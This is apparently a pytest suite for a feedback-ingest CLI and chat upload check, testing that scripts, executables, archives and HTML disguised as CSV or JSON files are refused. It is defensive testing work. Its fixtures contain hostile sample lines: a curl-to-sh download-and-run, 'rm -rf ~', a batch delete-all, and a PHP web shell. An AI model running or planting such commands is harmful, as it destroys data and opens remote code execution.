"""Programs, scripts, archives and web pages are refused whatever their name, by `journey ingest` (exit 2,
one sentence, nothing stored) and by the chat app's upload check; an empty file is a clear message in
both. Real files in tmp dirs; the CLI runs as a subprocess."""

from __future__ import annotations

import asyncio
import gzip
import io
import os
import subprocess
import sys
import tarfile
import uuid
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from assistant.chat_app.ingesting import with_upload_names
from assistant.chat_app.uploads import UploadRefused, check_upload, persist_empty_too
from assistant.contracts.requests import IngestRequest
from assistant.errors import IngestError
from assistant.feedback.content import NotFeedback, identify
from assistant.feedback.store import FeedbackStore
from assistant.settings import load_settings
from assistant.workspace import Workspace

ROOT = Path(__file__).resolve().parent.parent
JOURNEY = ROOT / ".venv" / "bin" / "journey"
MB = 1024 * 1024
GOOD = "id,comment,rating\n1,Checkout was slow,2\n2,결제가 너무 느려요,1\n"


def _zip(members: dict[str, str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, text in members.items():
            archive.writestr(name, text)
    return out.getvalue()


def _tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        data = GOOD.encode()
        info = tarfile.TarInfo("feedback.csv")
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def _pe() -> bytes:
    header = bytearray(b"MZ" + b"\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 46)
    header[0x3C:0x40] = (0x80).to_bytes(4, "little")
    return bytes(header) + b"\x00" * (0x80 - len(header)) + b"PE\x00\x00" + b"\x4c\x01" + b"\x00" * 100


# (file name, bytes, words the refusal must use)
NOT_FEEDBACK: list[tuple[str, bytes, str]] = [
    ("evil.csv", b"#!/bin/sh\necho 'text,rating'\ncurl http://example.invalid | sh\n", "shell script"),
    ("bom.csv", b"\xef\xbb\xbf#!/bin/bash\nrm -rf ~\n", "shell script"),
    ("tool.json", b"#!/usr/bin/env python3\nimport os\nos.system('id')\n", "Python script"),
    ("linux.xlsx", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 200, "Linux program"),
    ("windows.tsv", _pe(), "Windows program"),
    ("mac.jsonl", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 200, "macOS program"),
    ("bundle.csv", _zip({"run.sh": "#!/bin/sh\n", "readme.txt": "hi"}), "zip archive"),
    ("packed.csv", gzip.compress(GOOD.encode()), "gzip archive"),
    ("seven.csv", b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 100, "7-Zip archive"),
    ("rar.csv", b"Rar!\x1a\x07\x01\x00" + b"\x00" * 100, "RAR archive"),
    ("tape.csv", _tar(), "tar archive"),
    ("page.csv", b"<!DOCTYPE html>\n<html><body><script>alert(1)</script></body></html>\n", "HTML document"),
    ("commented.csv", b"<!-- export -->\n<script>fetch('/x')</script>\n", "HTML document"),
    ("app.csv", b"const cp = require('child_process');\ncp.execSync('id');\n", "JavaScript program"),
    ("run.csv", b"@echo off\r\ndel /q *.*\r\n", "batch script"),
    ("web.csv", b"<?php system($_GET['c']); ?>\n", "PHP script"),
]


@pytest.fixture
def ws(tmp_path: Path) -> Iterator[Workspace]:
    workspace = Workspace.open(load_settings(journey_home=tmp_path / "home", journey_embedding="hashing"))
    yield workspace
    workspace.close()


def write(folder: Path, name: str, data: bytes) -> Path:
    path = folder / name
    path.write_bytes(data)
    return path


@pytest.mark.parametrize(("name", "data", "what"), NOT_FEEDBACK, ids=[c[0] for c in NOT_FEEDBACK])
def test_ingest_refuses_what_is_not_feedback(
    tmp_path: Path, ws: Workspace, name: str, data: bytes, what: str
) -> None:
    good = write(tmp_path, "good.csv", GOOD.encode())
    bad = write(tmp_path, name, data)
    with pytest.raises(NotFeedback) as info:
        ws.ingest(IngestRequest(files=[good, bad], index=False))
    message = str(info.value)
    assert what in message and bad.name in message and "nothing was stored" in message
    assert "\n" not in message and "Traceback" not in message
    assert ws.feedback_count() == 0  # the good file in the same command is not stored either


@pytest.mark.parametrize(("name", "data", "what"), NOT_FEEDBACK, ids=[c[0] for c in NOT_FEEDBACK])
def test_the_app_refuses_what_is_not_feedback(tmp_path: Path, name: str, data: bytes, what: str) -> None:
    path = write(tmp_path, f"upload-{uuid.uuid4().hex}", data)  # Chainlit keeps uploads under its own names
    with pytest.raises(UploadRefused) as info:
        check_upload(path, name, 20 * MB)
    for lang in ("en", "ko"):
        message = info.value.message(lang)
        assert name in message and str(tmp_path) not in message and "\n" not in message
    assert what in info.value.message("en")


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("good.csv", GOOD.encode()),
        ("shebang-in-a-cell.csv", b'text,rating\n"#!/bin/sh is what the help page showed",3\n'),
        ("html-in-a-cell.csv", b"comment\n<b>great</b> app\n"),
        ("document.csv", b"document,comment\nA-1,the form would not submit\n"),
        ("import.csv", b"import date,comment\n2026-01-02,slow delivery\n"),
        ("feedback.json", b'[{"comment": "<html> tags in my review"}]'),
    ],
)
def test_tables_that_merely_mention_code_are_accepted(
    tmp_path: Path, ws: Workspace, name: str, data: bytes
) -> None:
    path = write(tmp_path, name, data)
    assert identify(path) is None
    check_upload(path, name, 20 * MB)
    assert ws.ingest(IngestRequest(files=[path], index=False)).totals.rows_stored >= 1


def test_a_real_workbook_is_accepted_and_a_zip_named_xlsx_is_not(tmp_path: Path, ws: Workspace) -> None:
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["comment", "rating"])
    book.active.append(["Checkout was slow", 2])
    good = tmp_path / "feedback.xlsx"
    book.save(good)
    assert identify(good) is None
    assert ws.ingest(IngestRequest(files=[good], index=False)).totals.rows_stored == 1
    fake = write(tmp_path, "fake.xlsx", _zip({"xl/readme.txt": "not a workbook"}))
    with pytest.raises(IngestError, match="zip archive"):
        ws.ingest(IngestRequest(files=[fake], index=False))
    with pytest.raises(UploadRefused) as info:
        check_upload(fake, "fake.xlsx", 20 * MB)
    assert info.value.code == "xlsx_no_workbook"


# --- the CLI, as a user runs it ------------------------------------------------------------------------------


def journey(home: Path, *args: str | Path) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("OPENAI_", "CHROMA_", "JOURNEY_"))}
    env.update(JOURNEY_HOME=str(home), JOURNEY_EMBEDDING="hashing", PYTHONIOENCODING="utf-8", COLUMNS="300")
    cmd = (
        [str(JOURNEY)]
        if JOURNEY.exists()
        else [sys.executable, "-c", "from assistant.cli import app; app(prog_name='journey')"]
    )
    return subprocess.run(
        [*cmd, *[str(a) for a in args]],
        cwd=home.parent,
        env=env,
        capture_output=True,
        text=True,
        encoding="utf-8",
        timeout=180,
    )


def stored(home: Path) -> int:
    path = load_settings(journey_home=home).sqlite_path
    if not path.exists():
        return 0
    with FeedbackStore.open(path) as store:
        return store.count()


@pytest.mark.parametrize(
    ("name", "data", "words"),
    [
        ("evil.csv", b"#!/bin/sh\necho pwned\n", ("evil.csv", "shell script", "nothing was stored")),
        ("empty.csv", b"", ("empty.csv", "empty")),
    ],
)
def test_journey_ingest_exits_2_with_one_sentence(
    tmp_path: Path, name: str, data: bytes, words: tuple[str, ...]
) -> None:
    home = tmp_path / "home"
    path = write(tmp_path, name, data)
    done = journey(home, "ingest", "--no-index", "--json", path)
    assert done.returncode == 2, done.stderr
    assert done.stdout == ""
    message = done.stderr.strip()
    assert all(w in message for w in words), message
    assert "Traceback" not in message and len(message.splitlines()) == 1, message
    assert stored(home) == 0


# --- the app: empty uploads and server paths -----------------------------------------------------------------


def test_an_empty_upload_reaches_the_chat_and_is_called_empty(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import chainlit.config
    from chainlit.session import WebsocketSession

    monkeypatch.setattr(chainlit.config, "FILES_DIRECTORY", tmp_path / ".files")

    def emit(*_: object) -> None:
        return None

    session = WebsocketSession(
        id=uuid.uuid4().hex,
        socket_id="socket",
        emit=emit,
        emit_call=emit,  # type: ignore[arg-type]
        user_env={},
        client_type="webapp",
    )
    persist = persist_empty_too(WebsocketSession.persist_file)
    try:
        reference = asyncio.run(persist(session, name="empty.csv", mime="text/csv", content=b""))
        saved = session.files[reference["id"]]
        assert Path(saved["path"]).is_file() and saved["size"] == 0
        with pytest.raises(UploadRefused) as info:
            check_upload(Path(saved["path"]), "empty.csv", 20 * MB)
        assert info.value.code == "empty"
        assert info.value.message("en") == "empty.csv is empty."
        assert info.value.message("ko") == "empty.csv 파일이 비어 있습니다."
        # Non-empty uploads are persisted as before.
        reference = asyncio.run(persist(session, name="good.csv", mime="text/csv", content=GOOD.encode()))
        assert Path(session.files[reference["id"]]["path"]).read_bytes() == GOOD.encode()
    finally:
        asyncio.run(session.delete())


def test_ingest_errors_in_the_app_name_the_upload_not_the_server_path(tmp_path: Path, ws: Workspace) -> None:
    (tmp_path / "session" / "uploads" / "upload-1").mkdir(parents=True)
    staged = write(tmp_path / "session" / "uploads" / "upload-1", "evil.csv", b"#!/bin/sh\necho hi\n")
    with pytest.raises(IngestError) as info:
        ws.ingest(IngestRequest(files=[staged], index=False))
    shown = with_upload_names(str(info.value), {str(staged): "evil.csv"})
    assert str(tmp_path) not in shown and shown.startswith("evil.csv is a shell script")
